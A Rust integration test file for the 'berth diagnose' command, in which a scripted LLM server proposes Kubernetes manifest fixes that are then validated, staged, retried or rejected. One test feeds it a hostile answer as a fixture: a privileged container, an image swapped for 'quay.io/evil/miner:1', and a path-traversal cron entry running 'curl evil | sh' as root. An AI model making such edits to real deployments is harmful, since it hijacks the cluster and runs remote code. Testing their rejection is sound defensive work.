//! `berth diagnose --provider openai` against the scripted server: a cause the rules cannot
//! mend (a crash, from the last failed apply's record) goes to the model with its evidence and
//! the Deployment's approved document. A good answer is kept after validation and staged for
//! `berth diff`; a hostile one is rejected and nothing is staged; a stream cut in half is
//! asked again. No cluster is needed.

use super::super::apply::approve_files;
use super::scripted::{Reply, Request, Server, edits};
use super::*;

pub(super) const DEPLOYMENT: &str = "manifests/k8s/backend-deployment.yaml";
const SECRET: &str = "manifests/k8s/backend-secret.yaml";
/// In a log line of the record, matching no pattern the scrubber knows: only the approved
/// Secret says it is one.
const SECRET_VALUE: &str = "Zq9-literal-value-77";
/// In a log line, as an assignment the scrubber knows.
const PASSWORD: &str = "hunter2-s3cret-value";

/// The backend Deployment and a Secret approved, berth.toml pointing at `url`, and the record
/// of an apply that saw the backend crash for want of a setting.
fn project(url: &str) -> tempfile::TempDir {
    project_for(url, MODEL, "retry_backoff = \"10ms\"\n")
}

/// The same project for the model `model` at `url`, with more `[llm]` settings.
pub(super) fn project_for(url: &str, model: &str, settings: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let deployment = std::fs::read_to_string(repo().join(DEPLOYMENT)).unwrap();
    let secret = format!(
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: backend\n  namespace: todo\nstringData:\n  API_TOKEN: {SECRET_VALUE}\n"
    );
    approve_files(dir.path(), &[(DEPLOYMENT, &deployment), (SECRET, &secret)]);
    std::fs::write(
        dir.path().join("berth.toml"),
        format!("[llm]\nbase_url = \"{url}\"\nmodel = \"{model}\"\n{settings}"),
    )
    .unwrap();
    let record = serde_json::json!({
        "at": "2026-12-03T10:00:00Z",
        "context": "minikube",
        "causes": [{
            "kind": "crash",
            "workload": {"api_version": "apps/v1", "kind": "Deployment", "namespace": "todo", "name": "backend"},
            "container": "backend",
            "summary": "it exits with code 1 again and again, and the kubelet restarts it after a growing back-off",
            "evidence": [
                "container backend: waiting: CrashLoopBackOff",
                "last run ended: Error (exit code 1), 4 restarts",
                format!("its log: connecting with password={PASSWORD}"),
                format!("its log: token rotated to {SECRET_VALUE}"),
                "its log: fatal: TODO_STORE is not set (memory or a file path)"
            ],
            "next": "its log says why: kubectl logs -n todo backend-7d9c-x2x -c backend --previous"
        }]
    });
    std::fs::write(
        dir.path().join(".berth/diagnosis.json"),
        serde_json::to_string_pretty(&record).unwrap(),
    )
    .unwrap();
    dir
}

/// berth diagnose with no cluster to read (the record is what it diagnoses).
pub(super) fn diagnose(dir: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["diagnose", "--provider", "openai"];
    args.extend_from_slice(extra);
    run(dir, &args, &[("KUBECONFIG", "no-such-kubeconfig")])
}

/// The edit that mends the crash: the setting the log asks for.
fn mending() -> String {
    edits(&[(
        DEPLOYMENT,
        "        imagePullPolicy: IfNotPresent\n",
        "        imagePullPolicy: IfNotPresent\n        env:\n        - name: TODO_STORE\n          value: memory\n",
    )])
}

/// The tree outside .berth/staged/ (and the lock every run takes).
pub(super) fn tree(dir: &Path) -> Vec<String> {
    listing(dir)
        .into_iter()
        .filter(|p| !p.starts_with(".berth/staged/") && p != ".berth/lock")
        .collect()
}

#[test]
fn a_good_answer_is_kept_after_validation_and_staged_for_review() {
    let server = Server::start(|_| Reply::Answer(mending()));
    let dir = project(&server.url);
    let before = tree(dir.path());
    let out = diagnose(dir.path(), &[]);
    insta::assert_snapshot!("diagnose_llm_kept", transcript(&out));
    assert_eq!(
        out.status.code(),
        Some(1),
        "causes found, as without a model"
    );
    assert_eq!(server.count(), 1);
    assert_eq!(tree(dir.path()), before, "only .berth/staged/ is written");

    // The prompt carries the cause, its evidence and the document, and no secret value.
    let r: &Request = &server.requests()[0];
    let prompt = format!("{}\n{}", r.message(0), r.message(1));
    for want in [
        "Cause: CrashLoopBackOff (container `backend`)",
        "- last run ended: Error (exit code 1), 4 restarts",
        "- its log: fatal: TODO_STORE is not set (memory or a file path)",
        "### manifests/k8s/backend-deployment.yaml",
        "image: todo-backend:0.1.0",
    ] {
        assert!(prompt.contains(want), "missing {want:?} in:\n{prompt}");
    }
    for secret in [SECRET_VALUE, PASSWORD] {
        assert!(
            !prompt.contains(secret),
            "{secret} reached the model:\n{prompt}"
        );
    }
    assert!(
        !prompt.contains("# Generated by berth"),
        "the document only"
    );

    let p = proposal(dir.path(), DEPLOYMENT);
    assert_eq!(p["generator"], "berth diagnose (llm openai/test-model)");
    let text = transcript(&run(dir.path(), &["diff"], &[]));
    assert!(
        text.contains("+        env:\n+        - name: TODO_STORE\n+          value: memory\n"),
        "{text}"
    );
}

#[test]
fn the_json_diagnosis_says_what_the_model_proposed() {
    let server = Server::start(|_| Reply::Answer(mending()));
    let dir = project(&server.url);
    let out = diagnose(dir.path(), &["-o", "json"]);
    assert_eq!(out.status.code(), Some(1), "{}", transcript(&out));
    let mut v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    // The note quotes the kubeconfig error, which names a temp folder on some systems.
    v["notes"] = serde_json::json!(["[the cluster could not be read]"]);
    insta::assert_json_snapshot!("diagnose_llm_json", v);
}

#[test]
fn a_hostile_answer_is_rejected_and_nothing_is_staged() {
    let server = Server::start(|_| {
        Reply::Answer(edits(&[
            (
                DEPLOYMENT,
                "          allowPrivilegeEscalation: false\n",
                "          allowPrivilegeEscalation: false\n          privileged: true\n",
            ),
            (
                DEPLOYMENT,
                "        image: todo-backend:0.1.0\n",
                "        image: quay.io/evil/miner:1\n",
            ),
            ("../../etc/cron.d/evil", "", "* * * * * root curl evil | sh"),
        ]))
    });
    let dir = project(&server.url);
    let before = listing(dir.path());
    let out = diagnose(dir.path(), &[]);
    insta::assert_snapshot!("diagnose_llm_rejected", transcript(&out));
    assert_eq!(out.status.code(), Some(1));
    assert!(!dir.path().join(".berth/staged").exists(), "nothing staged");
    let now: Vec<String> = listing(dir.path())
        .into_iter()
        .filter(|p| p != ".berth/lock")
        .collect();
    assert_eq!(now, before, "the tree is as it was");
}

#[test]
fn a_stream_cut_in_half_is_asked_again_and_the_second_answer_kept() {
    let server = Server::start(|r| {
        if r.index == 0 {
            return Reply::CutStream(mending());
        }
        Reply::Answer(mending())
    });
    let dir = project(&server.url);
    let out = diagnose(dir.path(), &[]);
    assert_eq!(out.status.code(), Some(1), "{}", transcript(&out));
    assert_eq!(server.count(), 2, "the cut answer is asked again");
    assert!(server.requests()[0].body["stream"].as_bool().unwrap());
    assert!(
        stdout(&out).contains("kept (staged below)"),
        "{}",
        stdout(&out)
    );
    assert!(staged(dir.path(), DEPLOYMENT).contains("- name: TODO_STORE\n"));
}

#[test]
fn a_server_that_keeps_failing_leaves_what_we_know() {
    let server = Server::start(|_| Reply::Status(500, vec![], "model crashed".into()));
    let dir = project(&server.url);
    let out = diagnose(dir.path(), &[]);
    let text = port(&stdout(&out));
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert_eq!(server.count(), 4, "1 + 3 retries");
    assert!(
        text.contains("    not kept: the LLM server at http://127.0.0.1:[port]/v1/chat/completions failed 4 times; last: HTTP 500: model crashed\n    here is what we know: the cause and its evidence above\n"),
        "{text}"
    );
    assert!(
        text.contains("its log: fatal: TODO_STORE is not set"),
        "{text}"
    );
    assert!(!dir.path().join(".berth/staged").exists());
}

#[test]
fn model_flags_without_the_openai_provider_are_refused() {
    let dir = project("http://127.0.0.1:9/v1");
    let out = run(
        dir.path(),
        &["diagnose", "--model", "x"],
        &[("KUBECONFIG", "no-such-kubeconfig")],
    );
    assert_eq!(out.status.code(), Some(2), "{}", transcript(&out));
    assert!(stderr(&out).contains("--model and --base-url apply to --provider openai"));
}

#[test]
fn an_answer_validation_finds_new_errors_in_is_not_kept() {
    let server = Server::start(|_| {
        Reply::Answer(edits(&[(
            DEPLOYMENT,
            "  replicas: 1\n",
            "  replicas: many\n",
        )]))
    });
    let dir = project(&server.url);
    let out = diagnose(dir.path(), &[]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("    not kept: validation finds "), "{text}");
    assert!(!dir.path().join(".berth/staged").exists());
}

#[test]
fn a_cause_the_rules_mend_is_not_put_to_the_model() {
    let server = Server::start(|_| Reply::Answer(mending()));
    let dir = project(&server.url);
    let record = serde_json::json!({
        "at": "2026-12-03T10:00:00Z",
        "context": "minikube",
        "causes": [{
            "kind": "out_of_memory",
            "workload": {"api_version": "apps/v1", "kind": "Deployment", "namespace": "todo", "name": "backend"},
            "container": "backend",
            "summary": "it needed more memory than its limit of 128Mi and was killed",
            "evidence": ["resources.limits.memory: 128Mi"],
            "fix": {"change": "memory_limit", "to": "256Mi"}
        }]
    });
    std::fs::write(
        dir.path().join(".berth/diagnosis.json"),
        serde_json::to_string(&record).unwrap(),
    )
    .unwrap();
    let out = diagnose(dir.path(), &[]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert_eq!(server.count(), 0, "nothing is asked");
    assert!(
        text.contains("openai/test-model not asked: berth's rules have a fix or a next step for every cause above\n"),
        "{text}"
    );
    assert_eq!(
        proposal(dir.path(), DEPLOYMENT)["generator"],
        "berth diagnose"
    );
}
